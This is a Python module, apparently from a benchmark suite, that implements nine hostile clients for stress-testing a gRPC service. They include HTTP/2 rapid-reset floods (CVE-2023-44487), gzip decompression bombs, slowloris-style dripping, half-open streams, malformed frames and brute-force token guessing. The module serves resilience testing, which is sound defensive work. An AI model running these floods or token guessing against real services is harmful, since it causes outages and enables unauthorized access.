"""The attacks: each is one hostile machine that goes on until it is cancelled.

All but `strangers` and `guesses` have a valid token, as a device in bad hands.
"""

from __future__ import annotations

import asyncio
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator, Mapping
from dataclasses import dataclass, field
from itertools import count
from random import Random

from benchmarks.attacks.hostile import Headers, HostileConnection, hostile_connection
from chaperone_common.frames import Draft, Open
from chaperone_common.types import SamplingParams, SessionId
from chaperone_common.wire import encode_client

MALFORMED = 10_000  # messages; the attack lasts at least that long
HELD = 300  # streams
SESSIONS_HELD = 64
ON_ONE_CONNECTION = 100
AT_ONCE = 256  # streams of a flood
BOMB_MIB = 40  # more would not fit into the window of a connection while it is compressed
DRIPPED = b"\x00\x00\x00\x04\x00" + bytes(1)  # the head of a message of 1 KiB, and its first byte
PAUSE_S = 1.0  # between two looks at held streams, and two bytes of a slow one
LATE_S = 10.0  # a stream that has not ended by then is reset; refusals are held for up to four seconds
PROMPT = (5, 6, 7)
GUESSED_DIGITS = 9
SEED = 7


@dataclass
class Target:
    """The service, and what the attacker knows of it."""

    address: str
    digest: str  # of the tokenizer
    token: str
    endings: Counter[str] = field(default_factory=Counter)  # of streams, by gRPC status, or `reset`, or `late`
    opened: int = 0  # streams
    ready: asyncio.Event = field(default_factory=asyncio.Event)  # the attack has begun

    @property
    def credentials(self) -> Headers:
        return (("authorization", f"Bearer {self.token}"),)

    def opening(self, session: str) -> bytes:
        """Return a valid Open."""
        return encode_client(Open(SessionId(session), self.digest, SamplingParams(), 50, (), PROMPT))


Attack = Callable[[Target], Awaitable[None]]


async def malformed(target: Target) -> None:
    """Send messages that are no frames, cut frames, frames out of order, and frames with unknown fields."""
    messages = _malformed_messages(target)
    await _flood(target, lambda number: (next(messages), target.credentials))


async def strangers(target: Target) -> None:
    """Open sessions without a token."""
    await _flood(target, lambda number: (target.opening(f"stranger {number}"), ()))


async def guesses(target: Target) -> None:
    """Guess the secret of a token whose id is known."""
    prefix = target.token[:-GUESSED_DIGITS]

    def guess(number: int) -> tuple[bytes, Headers]:
        token = f"{prefix}{number:0{GUESSED_DIGITS}d}"
        return target.opening(f"guess {number}"), (("authorization", f"Bearer {token}"),)

    await _flood(target, guess)


async def over_quota(target: Target) -> None:
    """Open sessions and let the cloud write, as fast as they are refused."""
    write = encode_client(Draft(0, len(PROMPT), (), (), len(PROMPT), continuation_tokens=49))
    await _flood(target, lambda number: (target.opening(f"session {number}"), target.credentials), then=write)


async def bombs(target: Target) -> None:
    """Send messages that are small only while they are compressed."""
    packer = zlib.compressobj(wbits=31)
    bomb = b"".join(packer.compress(bytes(2**20)) for _ in range(BOMB_MIB)) + packer.flush()
    headers = (*target.credentials, ("grpc-encoding", "gzip"))
    await _flood(target, lambda number: (bomb, headers), compressed=True, connections=AT_ONCE)


async def resets(target: Target) -> None:
    """Open sessions and reset them at once (CVE-2023-44487)."""
    numbers = count()
    while True:
        async with hostile_connection(target.address, endings=target.endings) as bad:
            while not bad.going_away:
                bad.reset(bad.open(target.opening(f"reset {next(numbers)}"), target.credentials))
                target.opened += 1
                target.ready.set()
                await bad.drained()
                await asyncio.sleep(0)


async def half_open(target: Target) -> None:
    """Hold streams without an Open, and replace each that ends."""
    await _hold(target, HELD)


async def slow(target: Target) -> None:
    """Hold streams on which a frame arrives byte by byte, and replace each that ends."""
    await _hold(target, HELD, drip=True)


async def deaf(target: Target) -> None:
    """Hold sessions whose answers are never read, and replace each that ends."""
    await _hold(target, SESSIONS_HELD, message=target.opening, window=0)


ATTACKS: Mapping[str, Attack] = {
    "malformed": malformed,
    "half-open": half_open,
    "slow": slow,
    "deaf": deaf,
    "bombs": bombs,
    "resets": resets,
    "strangers": strangers,
    "guesses": guesses,
    "over-quota": over_quota,
}


def _malformed_messages(target: Target) -> Iterator[bytes]:
    """Return messages of six kinds in turn, none of which can begin a session."""
    random = Random(SEED)
    valid = target.opening("malformed")
    draft = encode_client(Draft(0, 3, (1, 2), (0.5, 0.5), 3))
    while True:
        yield b"\xff" + random.randbytes(random.randrange(200))
        yield valid[: random.randrange(len(valid) - 2) + 1]
        yield b""
        yield draft
        yield b"\x0a" + b"\xff" * 9 + b"\x01"  # a length beyond all bounds
        yield valid + b"\x7a\x00" * 20  # many outermost fields


async def _flood(
    target: Target,
    make: Callable[[int], tuple[bytes, Headers]],
    *,
    then: bytes | None = None,
    compressed: bool = False,
    connections: int = 4,
) -> None:
    """Open streams, some at once, each with the message and the headers of its number; wait for the end of each."""
    numbers = count()

    async def open_streams(bad: HostileConnection) -> None:
        while not bad.going_away:
            message, headers = make(next(numbers))
            stream = bad.open(message, headers, compressed=compressed)
            if then is not None:
                bad.send(stream, then)
            target.opened += 1
            await bad.drained()
            try:
                async with asyncio.timeout(LATE_S):
                    await bad.ended(stream)
            except TimeoutError:
                target.endings["late"] += 1
                bad.reset(stream)
            target.ready.set()

    async def connect() -> None:
        while True:
            async with hostile_connection(target.address, endings=target.endings) as bad, asyncio.TaskGroup() as group:
                for _ in range(AT_ONCE // connections):
                    group.create_task(open_streams(bad))

    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(connect())


async def _hold(
    target: Target,
    streams: int,
    *,
    message: Callable[[str], bytes] | None = None,
    drip: bool = False,
    window: int = 65_535,
) -> None:
    """Hold a number of streams, at most a hundred on each connection."""

    async def hold(connection: int, size: int) -> None:
        numbers = count()
        while True:
            async with hostile_connection(target.address, window=window, endings=target.endings) as bad:
                held: list[int] = []
                while not bad.going_away:
                    held = [stream for stream in held if bad.is_open(stream)]
                    while len(held) < size:
                        first = None if message is None else message(f"held {connection} {next(numbers)}")
                        held.append(bad.open(first, target.credentials))
                        target.opened += 1
                        if drip:
                            bad.data(held[-1], DRIPPED[:5])
                    if drip:
                        for stream in held:
                            bad.data(stream, DRIPPED[5:6])
                    await bad.drained()
                    target.ready.set()
                    await asyncio.sleep(PAUSE_S)

    async with asyncio.TaskGroup() as group:
        for connection, first in enumerate(range(0, streams, ON_ONE_CONNECTION)):
            group.create_task(hold(connection, min(ON_ONE_CONNECTION, streams - first)))
